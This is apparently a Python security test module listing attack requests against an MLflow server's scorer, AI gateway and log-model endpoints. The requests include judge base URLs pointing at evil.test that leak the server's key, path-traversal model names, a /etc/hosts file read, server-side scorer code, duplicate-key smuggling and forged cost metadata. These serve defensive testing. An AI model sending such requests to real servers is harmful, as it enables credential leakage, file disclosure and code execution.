"""What MLflow's server does for scorers, and for its AI gateway: larger than the calls look."""

from __future__ import annotations

import json
from typing import Any

from tests.attacks.attempt import BAD, DENIED, Attempt, Request, new_trace, post, send

A = "/api/2.0/mlflow"
V3 = "/api/3.0/mlflow"
X3 = "/ajax-api/3.0/mlflow"
_SET_TAG = {
    "model_uri": "gateway:/any",
    "prompt": "x",
    "assessment_name": "x",
    "num_retries": 0,
    "base_url": f"http://@MLFLOW@{A}/runs/set-tag",
    "inference_params": {"run_id": "@R@", "key": "k", "value": "@NOW@"},
}
"""Arguments with which MLflow's ``invoke_judge_model`` tags alice's run, by MLflow's own API."""
_JUDGE = {"instructions": "Is {{ outputs }} good?", "model": "openai:/gpt-4o"}


def _text(name: str, **fields: Any) -> str:
    return json.dumps({"name": name, "mlflow_version": "3.17.2", **fields})


def _built_in(name: str, data: dict[str, Any]) -> str:
    return _text("s", builtin_scorer_class=name, builtin_scorer_pydantic_data=data)


def _judge(**more: Any) -> dict[str, Any]:
    return {"name": "s", "instructions_judge_pydantic_data": {**_JUDGE, **more}}


def _aligned(base: dict[str, Any], *traces: str) -> str:
    data = {"base_judge": base, "episodic_trace_ids": traces, "semantic_memory": []}
    return _text("s", memory_augmented_judge_data=data)


def _invoke(scorer: str) -> Request:
    body = {"experiment_id": "@EC@", "trace_ids": ["@TC@"], "serialized_scorer": scorer}
    return post(f"{X3}/scorer/invoke", body)


def _register(scorer: str) -> Request:
    body = {"experiment_id": "@EC@", "name": "@NOW@", "serialized_scorer": scorer}
    return post(f"{V3}/scorers/register", body)


def _evaluate(*scorers: str) -> Request:
    body = {"experiment_id": "@EC@", "trace_ids": ["@TC@"], "serialized_scorers": scorers}
    return post(f"{X3}/genai/evaluate/invoke", body)


_CALL = _built_in("invoke_judge_model", _SET_TAG)
_ANY_CALL = "MLflow calls whatever its module holds under that name, with these arguments"
_ADDRESS = "MLflow's server asks there, and shows its key"

SCORERS = (
    Attempt("scorer-calls-mlflow-itself", _ANY_CALL, _invoke(_CALL), direct="changes"),
    Attempt(
        "scorer-calls-mlflow-itself-inside",
        "scorers are rebuilt inside of scorers",
        _invoke(
            _text(
                "s", ensemble_scorer_data={"ensemble_fn": "minimum", "scorers": [json.loads(_CALL)]}
            )
        ),
        direct="changes",
    ),
    Attempt(
        "scorer-calls-mlflow-itself-twice-said",
        "the last of two equal keys counts",
        _invoke(_CALL.replace('"builtin', '"builtin_scorer_class": "Safety", "builtin', 1)),
        BAD,
        direct="changes",
    ),
    Attempt("scorer-call-registered", _ANY_CALL, _register(_CALL), direct="changes"),
    Attempt("scorer-call-evaluated", _ANY_CALL, _evaluate(json.dumps(_judge()), _CALL)),
    Attempt(
        "scorer-judge-with-an-address",
        "this class is no built-in scorer, and takes an address",
        _register(
            _built_in("InstructionsJudge", {"name": "s", **_JUDGE, "base_url": "http://evil.test"})
        ),
        direct="changes",
    ),
    Attempt(
        "scorer-model-parameters-with-an-address",
        _ADDRESS,
        _register(json.dumps(_judge(inference_params={"api_base": "http://evil.test"}))),
        direct="changes",
    ),
    Attempt(
        "scorer-headers",
        "they go out with the server's question",
        _register(_built_in("Safety", {"name": "s", "extra_headers": {"x-mlflow-workspace": "y"}})),
        direct="changes",
    ),
    Attempt(
        "scorer-model-with-a-path",
        "MLflow's server asks MLFLOW_DEPLOYMENTS_TARGET for /any?x=",
        _register(_built_in("Guidelines", {"name": "s", "model": "endpoints:/../../../any?x="})),
        direct="changes",
    ),
    Attempt(
        "issue-model-with-a-path",
        "the same at the provider",
        post(
            f"{X3}/issues/invoke",
            {
                "experiment_id": "@EC@",
                "trace_ids": ["@TC@"],
                "categories": [],
                "provider": "azure",
                "model": "../../any",
            },
        ),
        BAD,
    ),
    Attempt("scorer-code", "it runs on the server", _register(_text("s", call_source="return 1"))),
    Attempt(
        "scorer-loads-a-foreign-trace",
        "an aligned judge loads its examples by id and shows them to the language model",
        _register(_aligned(_judge(), "@TC@", "@T@")),
        direct="changes",
        twin={"@T@": "@NO_T@"},
    ),
    Attempt(
        "scorer-loads-a-foreign-trace-invoked",
        "the same without registering it",
        _invoke(_aligned(_judge(), "@T@")),
        twin={"@T@": "@NO_T@"},
    ),
    Attempt(
        "scorer-loads-a-foreign-trace-evaluated",
        "and in the second of two scorers",
        _evaluate(json.dumps(_judge()), _aligned(_judge(), "@T@")),
        twin={"@T@": "@NO_T@"},
    ),
)


def _spent(key: str) -> dict[str, str]:
    return {key: "e-of-others", "mlflow.trace.cost": '{"total_cost": 1000000.0}'}


def _trace(key: str) -> Request:
    return post(f"{V3}/traces", new_trace("tr-@NEW_HEX@", trace_metadata=_spent(key)))


_PAIRS = [
    {"key": key, "value": value} for key, value in _spent("mlflow.gateway.endpointId").items()
]
_BUDGET = "MLflow adds up what its AI gateway spent from all traces that say so"
_TAKES_IN = "MLflow logs there what is asked of the AI gateway's endpoint of that name"


def _named(name: str, key: str) -> Attempt:
    request = post(f"{A}/experiments/create", {"name": key})
    return Attempt(f"gateway-experiment-{name}", _TAKES_IN, request, direct="changes")


AI_GATEWAY = (
    Attempt("gateway-spent", _BUDGET, _trace("mlflow.gateway.endpointId"), direct="changes"),
    Attempt("gateway-spent-upper", _BUDGET, _trace("MLFLOW.gateway.ENDPOINTID")),
    Attempt("gateway-spent-by", "and who spent it", _trace("mlflow.auth.username")),
    Attempt(
        "gateway-spent-v2",
        "the older API",
        post(
            f"{A}/traces",
            {"experiment_id": "@EC@", "timestamp_ms": 1, "request_metadata": _PAIRS},
        ),
        direct="changes",
    ),
    Attempt(
        "gateway-spent-at-the-end",
        "the older API's second half",
        send(
            "PATCH",
            f"{A}/traces/@TC@",
            {"request_id": "@TC@", "timestamp_ms": 2, "status": "OK", "request_metadata": _PAIRS},
        ),
        direct="changes",
    ),
    _named("made", "gateway/chat-@NOW@-@MARK@"),
    _named("made-upper", "GateWay/chat-@NOW@-@MARK@"),
    _named("made-fullwidth", "\uff47ateway/chat-@NOW@-@MARK@"),
    Attempt(
        "gateway-experiment-renamed",
        _TAKES_IN,
        post(
            f"{A}/experiments/update",
            {"experiment_id": "@EC@", "new_name": "gateway/other-@NOW@-@MARK@"},
        ),
        direct="changes",
    ),
    Attempt(
        "custom-view-by-a-reader",
        "everybody gets the view, and at most fifty are kept",
        post(
            f"{A}/experiments/set-experiment-tag",
            {"experiment_id": "@EX@", "key": "mlflow.customView.view.v1.x", "value": "{}"},
        ),
        DENIED,
        direct="changes",
        sees=True,
    ),
)

_MODEL = {"artifact_path": "m", "flavors": {}, "utc_time_created": "2026-01-02", "run_id": "@RC@"}


def _logged(**more: Any) -> Request:
    body = {"run_id": "@RC@", "model_json": json.dumps({**_MODEL, **more})}
    return post(f"{A}/runs/log-model", body)


FILES = (
    Attempt("log-model-server-file", "MLflow opens the file", _logged(resources="/etc/hosts")),
    Attempt(
        "log-model-server-file-twice-said",
        "the last of two equal keys counts",
        post(
            f"{A}/runs/log-model",
            {
                "run_id": "@RC@",
                "model_json": json.dumps(_MODEL)[:-1]
                + ', "resources": {}, "resources": "/etc/hosts"}',
            },
        ),
    ),
)

ROWS = (*SCORERS, *AI_GATEWAY, *FILES)
